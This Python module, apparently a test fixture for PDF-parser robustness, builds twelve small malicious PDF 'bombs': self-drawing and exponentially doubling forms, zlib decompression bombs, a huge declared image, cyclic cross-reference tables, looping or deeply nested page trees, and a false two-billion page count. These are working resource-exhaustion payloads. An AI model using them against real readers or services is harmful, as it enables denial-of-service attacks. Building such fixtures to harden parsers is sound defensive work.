"""PDF files that are small, and made to take all time or memory of whoever reads them.

BOMBS["a form that draws itself"]() -> bytes
"""

import zlib
from collections.abc import Callable, Mapping
from functools import partial

__all__ = ["BOMBS"]

_TEXT = b"BT /F1 12 Tf 72 700 Td (Tomato soup) Tj ET "
_FONT = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"
_IMAGE = b"/Type /XObject /Subtype /Image /Width 100000 /Height 100000 /ColorSpace /DeviceRGB /BitsPerComponent 8"
_FILL_BYTES = 200_000_000


def _form_of_itself() -> bytes:
    return _file(_page(_TEXT + b"/A Do", {6: _form(6)}))


def _forms_of_each_other() -> bytes:
    return _file(_page(_TEXT + b"/A Do", {6: _form(7), 7: _form(6)}))


def _forms_that_double() -> bytes:
    """Thirty forms, each of which draws the next one twice."""
    return _file(_page(_TEXT + b"/A Do", {number: _form(number + 1) for number in range(6, 36)}))


def _packed(piece: bytes) -> bytes:
    packer = zlib.compressobj(9)
    block = piece * (1_000_000 // len(piece))
    packed = b"".join(packer.compress(block) for _ in range(_FILL_BYTES // len(block))) + packer.flush()
    return _file({**_page(b""), 4: _stream(packed, b"/Filter /FlateDecode")})


def _image_of_tens_of_gigabytes() -> bytes:
    return _file(_page(_TEXT + b"/A Do", {6: _stream(bytes(10), _IMAGE)}))


def _table_before_itself() -> bytes:
    data = _file(_page(_TEXT))
    return data.replace(b"/Root 1 0 R", b"/Root 1 0 R /Prev %d" % data.rindex(b"xref\n0 "))


def _table_stream_before_itself() -> bytes:
    data, places = _objects(_page(_TEXT))
    start = len(data)
    rows = b"".join(bytes([place > 0]) + place.to_bytes(4) + b"\0" for place in [0, *places.values(), start])
    table = _stream(rows, b"/Type /XRef /Size 7 /W [1 4 1] /Root 1 0 R /Prev %d" % start)
    return data + b"6 0 obj\n%s\nendobj\nstartxref\n%d\n%%%%EOF\n" % (table, start)


def _pages_that_hold_themselves() -> bytes:
    return _file({**_page(_TEXT), 2: b"<< /Type /Pages /Kids [3 0 R 2 0 R] /Count 2 >>"})


def _pages_that_hold_their_parent() -> bytes:
    inner = {6: b"<< /Type /Pages /Parent 2 0 R /Kids [2 0 R 3 0 R] /Count 1 >>"}
    return _file({**_page(_TEXT), 2: b"<< /Type /Pages /Kids [6 0 R] /Count 2 >>", **inner})


def _pages_in_pages() -> bytes:
    deep = {number: b"<< /Type /Pages /Kids [%d 0 R] /Count 1 >>" % (number + 1) for number in range(2, 3000)}
    return _file({1: b"<< /Type /Catalog /Pages 2 0 R >>", **deep, 3000: b"<< /Type /Page /MediaBox [0 0 600 800] >>"})


def _billions_of_pages() -> bytes:
    return _file({**_page(_TEXT), 2: b"<< /Type /Pages /Kids [3 0 R] /Count 2000000000 >>"})


BOMBS: Mapping[str, Callable[[], bytes]] = {
    "a form that draws itself": _form_of_itself,
    "forms that draw each other": _forms_of_each_other,
    "forms that double": _forms_that_double,
    "zeros": partial(_packed, bytes(1)),
    "text": partial(_packed, _TEXT),
    "an image": _image_of_tens_of_gigabytes,
    "a table before itself": _table_before_itself,
    "a stream of a table before itself": _table_stream_before_itself,
    "pages that hold themselves": _pages_that_hold_themselves,
    "pages that hold their parent": _pages_that_hold_their_parent,
    "pages in pages": _pages_in_pages,
    "billions of pages": _billions_of_pages,
}


def _page(content: bytes, drawn: Mapping[int, bytes] | None = None) -> dict[int, bytes]:
    """The objects of a file with one page, whose `/A` is object 6."""
    resources = b"/Font << /F1 5 0 R >>" + (b" /XObject << /A 6 0 R >>" if drawn else b"")
    return {
        1: b"<< /Type /Catalog /Pages 2 0 R >>",
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 600 800] /Contents 4 0 R /Resources << %s >> >>" % resources,
        4: _stream(content),
        5: _FONT,
        **(drawn or {}),
    }


def _form(draws: int) -> bytes:
    """One that writes a line, and draws another twice."""
    resources = b"/Resources << /XObject << /A %d 0 R >> /Font << /F1 5 0 R >> >>" % draws
    return _stream(_TEXT + b"/A Do /A Do", b"/Type /XObject /Subtype /Form /BBox [0 0 600 800] " + resources)


def _stream(data: bytes, entries: bytes = b"") -> bytes:
    return b"<< %s /Length %d >>\nstream\n%s\nendstream" % (entries, len(data), data)


def _objects(objects: Mapping[int, bytes]) -> tuple[bytes, dict[int, int]]:
    """The beginning of a file, and where each object is in it."""
    data, places = b"%PDF-1.5\n", {}
    for number, body in sorted(objects.items()):
        places[number] = len(data)
        data += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    return data, places


def _file(objects: Mapping[int, bytes]) -> bytes:
    data, places = _objects(objects)
    rows = b"".join(b"%010d 00000 n \n" % place for place in places.values())
    size = len(places) + 1
    table = b"xref\n0 %d\n0000000000 65535 f \n%strailer\n<< /Size %d /Root 1 0 R >>\n" % (size, rows, size)
    return data + table + b"startxref\n%d\n%%%%EOF\n" % len(data)
